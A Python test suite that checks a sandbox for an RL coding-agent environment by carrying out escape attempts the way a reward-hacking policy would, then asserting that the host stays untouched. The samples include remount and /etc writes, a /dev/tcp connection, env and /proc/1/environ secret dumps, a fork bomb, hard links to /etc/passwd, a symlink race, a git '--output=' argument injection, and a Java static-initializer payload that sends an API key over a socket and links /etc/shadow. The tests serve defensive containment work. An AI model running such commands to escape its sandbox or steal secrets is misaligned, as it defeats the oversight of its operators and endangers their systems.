"""Escape attempts against the sandbox, through the agent's tools and through an evaluated repository.

Every attempt is made the way a reward-hacking policy would make it (a shell command, an editor
call, a static initializer in a test class that runs during the scoring build), and every test
asserts what the HOST sees afterwards: no file outside the workspace, no connection received by a
host listener, no secret in the output, no process left, the other rollout's files unchanged.

Run alone: ``pytest -m sandbox`` (the evaluated-repository test is also ``maven``).
"""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import stat
import subprocess
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest

from strands_art.envs.migrationbench.agent.toolenv import workspace_sandbox
from strands_art.envs.migrationbench.agent.tools import make_tools
from strands_art.envs.migrationbench.evaluate.evaluator import EvalTask, evaluate
from strands_art.envs.migrationbench.workspace import Workspace
from strands_art.envs.sandbox import Limits, SandboxUnavailable, require_sandbox

try:
    require_sandbox()
    _SANDBOX_OK = True
except SandboxUnavailable:
    _SANDBOX_OK = False

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(not _SANDBOX_OK, reason="bubblewrap sandbox unavailable (scripts/setup-system.sh)"),
]
TASKS = Path(__file__).resolve().parents[1] / "examples" / "migrationbench" / "tasks"
SECRETS = {
    "OPENAI_API_KEY": "sk-attack-1",
    "AWS_SECRET_ACCESS_KEY": "aws-attack-2",
    "HF_TOKEN": "hf-attack-3",
}


def _text(result: dict) -> str:
    return result["content"][0]["text"]


@pytest.fixture
def tag() -> str:
    return uuid.uuid4().hex[:12]


@pytest.fixture
def task_dir(tmp_path: Path) -> Path:
    repo = tmp_path / "task" / "repo"
    (repo / "src").mkdir(parents=True)
    (repo / "pom.xml").write_text("<project/>\n")
    (repo / "src" / "A.java").write_text("class A {}\n")
    return tmp_path / "task"


@pytest.fixture
def ws(task_dir: Path):
    w = Workspace.for_task(task_dir)
    yield w
    w.cleanup()


@pytest.fixture
def other(task_dir: Path):
    """A second rollout's workspace (the one the attacker wants to read and tamper with)."""
    w = Workspace.for_task(task_dir)
    (w.root / "secret.txt").write_text("other-rollout-secret")
    os.chown(w.root / "secret.txt", w.identity.uid, w.identity.gid)
    yield w
    w.cleanup()


class Listener:
    """A TCP listener on the host's 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = False
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._thread.start()

    def _loop(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(4096) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> list[bytes]:
        time.sleep(0.3)
        self._stop = True
        self._thread.join(2)
        self.sock.close()
        return self.received


def _uid_processes(uid: int) -> list[int]:
    pids = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                for line in (d / "status").read_text().splitlines():
                    if line.startswith("Uid:") and int(line.split()[1]) == uid:
                        pids.append(int(d.name))
            except (OSError, ValueError):
                pass
    return pids


def _outside_paths(tag: str) -> list[Path]:
    return [
        Path(p) / f"strands-art-attack-{tag}"
        for p in ("/", "/etc", "/usr", "/var/tmp", "/tmp", "/dev/shm", "/root")
    ]


# ---------------------------------------------------------------- through the agent's shell
async def test_remount_and_writes_outside_leave_the_host_untouched(ws: Workspace, tag: str) -> None:
    shell, _ = make_tools(ws)
    targets = " ".join(str(p) for p in _outside_paths(tag))
    r = await shell(
        command=f"mount -o remount,rw /; mount -o remount,rw /usr; mount -t tmpfs none /etc; "
        f"for t in {targets}; do touch $t; done; touch {ws.root.parent.parent}/strands-art-attack-{tag}; "
        "id -u; echo end"
    )
    out = _text(r)
    assert "must be superuser" in out or "permission denied" in out.lower()
    assert "end" in out
    for p in [*_outside_paths(tag), ws.root.parent.parent / f"strands-art-attack-{tag}"]:
        assert not p.exists(), f"{p} appeared on the host"
    # the sandbox uid is not root outside: what it writes in the workspace belongs to its own uid
    await shell(command="echo hi > mine.txt")
    assert (ws.root / "mine.txt").stat().st_uid == ws.identity.uid != 0 or os.geteuid() != 0


async def test_mknod_dev_shm_sys_and_proc_writes_are_refused(ws: Workspace, tag: str) -> None:
    shell, _ = make_tools(ws)
    r = await shell(
        command=f"mknod null2 c 1 3; mknod blk b 8 0; echo x > /dev/shm/strands-art-attack-{tag}; "
        "ls /dev/shm; echo 1 > /sys/kernel/sysrq; echo c > /proc/sysrq-trigger; ls /sys; echo end"
    )
    out = _text(r)
    assert "Operation not permitted" in out and "end" in out
    assert not (ws.root / "null2").exists() and not (ws.root / "blk").exists()
    assert not Path(f"/dev/shm/strands-art-attack-{tag}").exists()  # /dev/shm is private
    assert "ls: cannot access '/sys'" in out


async def test_another_rollouts_workspace_is_invisible_and_untouched(ws: Workspace, other: Workspace) -> None:
    shell, editor = make_tools(ws)
    before = (other.root / "pom.xml").read_bytes()
    r = await shell(
        command=f"cat {other.root}/secret.txt; ls {other.root}; echo evil >> {other.root}/pom.xml; "
        f"ls {other.root.parent.parent}; echo end"
    )
    out = _text(r)
    assert "other-rollout-secret" not in out and "No such file or directory" in out and "end" in out
    assert (other.root / "pom.xml").read_bytes() == before
    r = await editor(command="view", path=str(other.root / "secret.txt"))
    assert r["status"] == "error" and "other-rollout-secret" not in _text(r)


async def test_network_reaches_neither_host_loopback_nor_a_registry(ws: Workspace) -> None:
    listener = Listener()
    shell, _ = make_tools(ws)
    try:
        r = await shell(
            command=f"exec 3<>/dev/tcp/127.0.0.1/{listener.port} && echo CONNECTED >&3; "
            "python3 -c \"import urllib.request as u; u.urlopen('https://pypi.org/simple/', timeout=5)\" "
            "2>&1 | tail -1; getent hosts repo.maven.apache.org || echo NO-DNS"
        )
    finally:
        received = listener.close()
    out = _text(r)
    assert received == []  # the host listener saw no connection at all
    assert "CONNECTED" not in out and "NO-DNS" in out
    assert "URLError" in out  # the registry is unreachable


async def test_secrets_in_our_environment_do_not_reach_commands(
    ws: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    for k, v in SECRETS.items():
        monkeypatch.setenv(k, v)
    shell, _ = make_tools(ws, env={"GITHUB_TOKEN": "gh-attack-4", "MVN_LOCAL_REPO": "/x"})
    out = _text(await shell(command="env; cat /proc/1/environ | tr '\\0' '\\n'"))
    for secret in [*SECRETS.values(), "gh-attack-4"]:
        assert secret not in out
    assert "MVN_LOCAL_REPO=/x" in out  # the allow-listed variable does arrive


async def test_fork_bomb_is_contained_and_leaves_nothing(ws: Workspace) -> None:
    shell, _ = make_tools(ws, sandbox=workspace_sandbox(ws, Limits(processes=96)), command_timeout_s=30)
    t0 = time.monotonic()
    r = await shell(command="bomb() { bomb | bomb & }; bomb; sleep 3; echo still-here")
    assert time.monotonic() - t0 < 30
    out = _text(r)
    assert "still-here" in out and "Resource temporarily unavailable" in out
    # nothing of the sandbox uid survives (the kernel tears the PID namespace down: allow it a moment)
    deadline = time.monotonic() + 10
    while _uid_processes(ws.identity.uid) and time.monotonic() < deadline:
        await asyncio.sleep(0.2)
    assert _uid_processes(ws.identity.uid) == []


async def test_memory_hog_fails_inside(ws: Workspace) -> None:
    shell, _ = make_tools(ws, sandbox=workspace_sandbox(ws, Limits(data_bytes=512 << 20)))
    out = _text(
        await shell(command="python3 -c 'x = bytearray(2 << 30); print(\"GOT\", len(x))'; echo rc=$?")
    )
    assert "MemoryError" in out and "GOT" not in out and "rc=1" in out


async def test_big_file_is_capped(ws: Workspace) -> None:
    shell, _ = make_tools(ws, sandbox=workspace_sandbox(ws, Limits(file_bytes=1 << 20)))
    await shell(command="head -c 5000000 /dev/zero > big.bin")
    assert (ws.root / "big.bin").stat().st_size == 1 << 20


# ---------------------------------------------------------------- through the agent's file editor
async def test_editor_refuses_a_fifo_planted_by_the_shell_without_hanging(ws: Workspace) -> None:
    shell, editor = make_tools(ws, editor_timeout_s=10)
    await shell(command="mkfifo pipe.xml && ls -l pipe.xml")
    assert stat.S_ISFIFO((ws.root / "pipe.xml").lstat().st_mode)
    t0 = time.monotonic()
    for call in (
        {"command": "view", "path": "pipe.xml"},
        {"command": "str_replace", "path": "pipe.xml", "old_str": "a", "new_str": "b"},
        {"command": "create", "path": "pipe.xml", "file_text": "x"},
        {"command": "insert", "path": "pipe.xml", "insert_line": 0, "new_str": "x"},
    ):
        r = await editor(**call)
        assert r["status"] == "error" and "FIFO" in _text(r), _text(r)
    assert time.monotonic() - t0 < 5


async def test_many_rollouts_with_fifos_do_not_starve_the_evaluation_pool(task_dir: Path) -> None:
    workspaces = [Workspace.for_task(task_dir) for _ in range(8)]
    try:
        calls = []
        for w in workspaces:
            os.mkfifo(w.root / "p.txt")
            _, editor = make_tools(w, editor_timeout_s=5)
            calls.append(editor(command="view", path="p.txt"))
        results = await asyncio.gather(*calls)
        assert all(r["status"] == "error" for r in results)
        # the default executor (what the runner's evaluation uses) is still free
        assert await asyncio.wait_for(asyncio.to_thread(lambda: 42), 2) == 42
    finally:
        for w in workspaces:
            w.cleanup()


async def test_editor_refuses_hard_links_and_devices(ws: Workspace, tmp_path: Path) -> None:
    shell, editor = make_tools(ws)
    # inside the sandbox a hard link to a host file cannot even be made
    out = _text(await shell(command="ln /usr/bin/env mylink; ln /etc/passwd pw; echo end"))
    assert not (ws.root / "mylink").exists() and not (ws.root / "pw").exists() and "end" in out
    # a hard link that exists anyway (planted on the host side) is refused, its target untouched
    outside = tmp_path / "outside.txt"
    outside.write_text("host data\n")
    os.link(outside, ws.root / "hl.txt")
    r = await editor(command="create", path="hl.txt", file_text="pwned\n")
    assert r["status"] == "error" and "hard links" in _text(r)
    r = await editor(command="str_replace", path="hl.txt", old_str="host", new_str="pwned")
    assert r["status"] == "error"
    assert outside.read_text() == "host data\n"
    # a device node (e.g. /dev/zero's numbers: an unbounded read) is refused without reading
    os.mknod(ws.root / "zero", 0o644 | stat.S_IFCHR, os.makedev(1, 5))
    t0 = time.monotonic()
    r = await editor(command="view", path="zero")
    assert r["status"] == "error" and "character device" in _text(r) and time.monotonic() - t0 < 5


async def test_symlink_swapped_in_after_the_path_check_leads_nowhere(ws: Workspace, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_text("keep me\n")
    (ws.root / "sub").mkdir()
    (ws.root / "sub" / "victim.txt").write_text("inside\n")
    real_resolve = ws.resolve

    def racing_resolve(path: str) -> Path:
        checked = real_resolve(path)  # the check passes on the real directory ...
        shutil.rmtree(ws.root / "sub")  # ... then the shell swaps it for a symlink out
        os.symlink(outside, ws.root / "sub")
        return checked

    ws.resolve = racing_resolve  # type: ignore[method-assign]
    _, editor = make_tools(ws)
    r = await editor(command="create", path="sub/victim.txt", file_text="pwned\n")
    assert r["status"] == "error" and "symbolic link" in _text(r)
    assert (outside / "victim.txt").read_text() == "keep me\n"
    assert sorted(p.name for p in outside.iterdir()) == ["victim.txt"]


# ---------------------------------------------------------------- through an evaluated repository
ATTACK = """
    static {{
        String tag = "{tag}";
        try {{ java.nio.file.Files.writeString(java.nio.file.Path.of("/var/tmp/strands-art-attack-" + tag), "x"); }} catch (Throwable t) {{ }}
        try {{ java.nio.file.Files.writeString(java.nio.file.Path.of("/dev/shm/strands-art-attack-" + tag), "x"); }} catch (Throwable t) {{ }}
        try {{ java.nio.file.Files.writeString(java.nio.file.Path.of("{other}/pom.xml"), "pwned"); }} catch (Throwable t) {{ }}
        try (java.net.Socket s = new java.net.Socket("127.0.0.1", {port})) {{
            s.getOutputStream().write(("key=" + System.getenv("OPENAI_API_KEY")).getBytes());
        }} catch (Throwable t) {{ }}
        try {{
            new ProcessBuilder("sh", "-c",
                "mount -o remount,rw / ; touch /strands-art-attack-" + tag + "; "
                + "mkdir -p target/surefire-reports; mkfifo target/surefire-reports/TEST-zfifo.xml; "
                + "ln -s /etc/shadow target/surefire-reports/TEST-zlink.xml; "
                + "(setsid sleep 4242.{tag_num} >/dev/null 2>&1 &)")
                .redirectErrorStream(true).start().waitFor(20, java.util.concurrent.TimeUnit.SECONDS);
        }} catch (Throwable t) {{ }}
    }}
"""


@pytest.mark.maven
@pytest.mark.skipif(shutil.which("mvn") is None, reason="mvn not installed (scripts/setup-system.sh)")
def test_attacks_from_a_test_class_during_the_scoring_build(
    tmp_path: Path, other: Workspace, tag: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    task_dir = TASKS / "compiler-props"
    repo = tmp_path / "repo"
    shutil.copytree(task_dir / "repo", repo)
    subprocess.run(["git", "apply", str(task_dir / "reference.patch")], cwd=repo, check=True)
    test_file = repo / "src/test/java/org/example/textstats/SlugsTest.java"
    listener = Listener()
    tag_num = str(int(tag[:6], 16))
    attack = ATTACK.format(tag=tag, port=listener.port, other=other.root, tag_num=tag_num)
    test_file.write_text(
        test_file.read_text().replace("public class SlugsTest {", "public class SlugsTest {" + attack)
    )
    os.mkfifo(repo / "stuck.fifo")  # a FIFO left by the agent in its workspace
    for k, v in SECRETS.items():
        monkeypatch.setenv(k, v)
    other_pom = (other.root / "pom.xml").read_bytes()
    t0 = time.monotonic()
    try:
        result = evaluate(repo, EvalTask.from_dir(task_dir), timeout_s=240, offline=True).to_json()
    finally:
        received = listener.close()
    details = result["details"]
    assert time.monotonic() - t0 < 300
    # the build itself ran the attack and still passed: every attempt was contained
    assert result["build_success"], details["log_tail"]
    assert details["tests_total"] == 6
    # what the host sees
    assert received == []
    for p in _outside_paths(tag):
        assert not p.exists(), f"{p} appeared on the host"
    assert (other.root / "pom.xml").read_bytes() == other_pom
    assert not any("4242." + tag_num in _cmdline(pid) for pid in _all_pids())
    # the planted FIFO and symlink reports were read as nothing, never followed or waited on
    assert sorted(details["unreadable_reports"]) == [
        "target/surefire-reports/TEST-zfifo.xml",
        "target/surefire-reports/TEST-zlink.xml",
    ]
    assert result["reward"] == 0.5  # unreadable reports fail test equivalence
    assert details["left_out_of_build"] == ["stuck.fifo"]
    assert stat.S_ISFIFO((repo / "stuck.fifo").lstat().st_mode)  # the evaluated repo is only read
    assert not (repo / "target").exists()


def _all_pids() -> list[int]:
    return [int(d.name) for d in Path("/proc").iterdir() if d.name.isdigit()]


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


# ---------------------------------------------------------------- the one-command check
def test_sandbox_check_command_passes_every_check(capsys: pytest.CaptureFixture[str]) -> None:
    from strands_art.cli import main as cli_main

    assert cli_main(["sandbox-check"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[-1] == "sandbox-check: 11/11 checks passed"
    assert all(line.startswith("ok ") for line in lines[:-1]) and len(lines) == 12


def test_original_tests_from_git_run_sandboxed_and_never_as_an_option(tmp_path: Path, tag: str) -> None:
    from strands_art.envs.migrationbench.evaluate.evaluator import _copy_for_build, _original_tests
    from strands_art.envs.sandbox import allocate_identity, release_identity

    repo = tmp_path / "r"
    (repo / "src/test/java/p").mkdir(parents=True)
    (repo / "src/test/java/p/T.java").write_text(
        "package p; class T { @Test void a() {} @Test void b() {} }\n"
    )
    git = ["git", "-c", "user.email=a@b", "-c", "user.name=a"]
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    subprocess.run([*git, "-C", str(repo), "add", "-A"], check=True)
    subprocess.run([*git, "-C", str(repo), "commit", "-qm", "x"], check=True)
    head = subprocess.run(
        ["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True
    ).stdout.strip()
    identity = allocate_identity()
    build_root = Path(
        tempfile.mkdtemp(prefix="strands-art-test-")
    )  # as evaluate(): the sandbox uid can enter it
    os.chmod(build_root, 0o711)
    try:
        build = build_root / "repo"
        _copy_for_build(repo, build, identity)
        task = EvalTask(name="t", num_test_cases=2, base_commit=head)
        assert sorted(_original_tests(build, task, identity, unsafe=False)[0].keys()) == ["p.T#a", "p.T#b"]
        evil = tmp_path / f"created-{tag}"
        with pytest.raises(ValueError, match="hex git commit id"):  # refused before git runs
            _original_tests(
                build, EvalTask(name="t", num_test_cases=2, base_commit=f"--output={evil}"), identity, False
            )
        with pytest.raises(ValueError, match="is missing or unreadable"):  # hex, but no such commit
            _original_tests(
                build,
                EvalTask(name="t", num_test_cases=2, base_commit="abcdef0" * 5 + "abcde"),
                identity,
                False,
            )
        assert not evil.exists()
    finally:
        shutil.rmtree(build_root)
        release_identity(identity)
